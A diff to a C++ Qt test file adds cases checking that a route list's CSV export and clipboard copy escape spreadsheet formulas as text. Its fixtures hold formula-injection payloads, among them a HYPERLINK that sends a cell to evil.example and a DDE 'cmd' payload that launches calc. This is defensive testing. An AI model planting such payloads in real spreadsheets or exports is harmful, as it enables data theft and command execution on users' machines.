@@ -16,11 +16,33 @@ namespace {
 // both ends.
 const QString Awkward = QString::fromUtf8(" A \"quoted\", semi; tab\there & <tag> Zürich ");
 
+// Descriptions a spreadsheet would evaluate, and numbers it reads as they are, each with the
+// CSV field exported for it.
+const struct {
+    const char *code, *description, *field;
+} Formulas[] = {
+    {"F1", R"x(=HYPERLINK("http://evil.example/?q="&A1;"Details"))x",
+     R"x("'=HYPERLINK(""http://evil.example/?q=""&A1;""Details"")")x"},
+    {"F2", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+    {"F3", "-2-3", "'-2-3"},
+    {"F4", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
+    {"F5", "\t=1", "'\t=1"},
+    {"F6", "-5", "-5"},
+    {"F7", "+3.5", "+3.5"},
+    {"F8", "A=1", "A=1"},
+};
+
 class ListCommandsTest : public PageTest {
 protected:
     void seed() override {
         server->execute(
             QStringLiteral("INSERT INTO routes VALUES (40, 1, 'Q1', '%1', '2024')").arg(Awkward));
+        int key = 41;
+        for (const auto& formula : Formulas) {
+            server->execute(QStringLiteral("INSERT INTO routes VALUES (%1, 1, '%2', '%3', '2024')")
+                                .arg(key++)
+                                .arg(qs(formula.code), qs(formula.description).replace("'", "''")));
+        }
     }
     void SetUp() override {
         PageTest::SetUp();
@@ -80,17 +102,33 @@ TEST_F(ListCommandsTest, ExportWritesEveryRowInTheShownOrderAsCsv) {
     command("Export as CSV…")->trigger();
 
     const QList<QByteArray> lines = exported().split('\n');
-    ASSERT_EQ(lines.size(), 15) << exported().toStdString(); // captions, 13 rows, nothing after
+    ASSERT_EQ(lines.size(), 23) << exported().toStdString(); // captions, 21 rows, nothing after
     EXPECT_EQ(lines[0], "Route,Description,Facility\r");
     QString quoted = Awkward;
     quoted.replace(QStringLiteral("\""), QStringLiteral("\"\""));
     EXPECT_EQ(lines[1],
               QByteArray("Q1,\"" + quoted.toUtf8() + "\",Northfield Distribution Center\r"));
-    EXPECT_EQ(lines[13], "01,Downtown Loop,Northfield Distribution Center\r");
-    EXPECT_TRUE(lines[14].isEmpty());
+    EXPECT_EQ(lines[21], "01,Downtown Loop,Northfield Distribution Center\r");
+    EXPECT_TRUE(lines[22].isEmpty());
     EXPECT_EQ(selectedPosition(*list), 1 + list->count() - selected); // the same row, resorted
     EXPECT_EQ(control<QPushButton>("cmdAddRoute")->text(), "Add Route");
     EXPECT_TRUE(boxes.shown().empty());
+}
+
+// A value from the service that a spreadsheet would evaluate is written as text, copied or
+// exported; plain numbers stay numbers.
+TEST_F(ListCommandsTest, FormulasAreCopiedAndExportedAsText) {
+    command("Export as CSV…")->trigger();
+    const QByteArray csv = exported();
+    for (const auto& formula : Formulas) {
+        SCOPED_TRACE(formula.code);
+        EXPECT_TRUE(csv.contains(QByteArray(formula.code) + "," + formula.field + ",Northfield"))
+            << csv.toStdString();
+    }
+    clickRow(*list, positionOf(*list, QStringLiteral("F1")));
+    QTest::keySequence(list, QKeySequence::Copy);
+    EXPECT_EQ(QApplication::clipboard()->text().split('\n').value(1),
+              qs("F1\t") + Formulas[0].field + "\tNorthfield Distribution Center");
 }
 
 TEST_F(ListCommandsTest, AFileThatCannotBeWrittenIsReportedAndNothingIsLeft) {
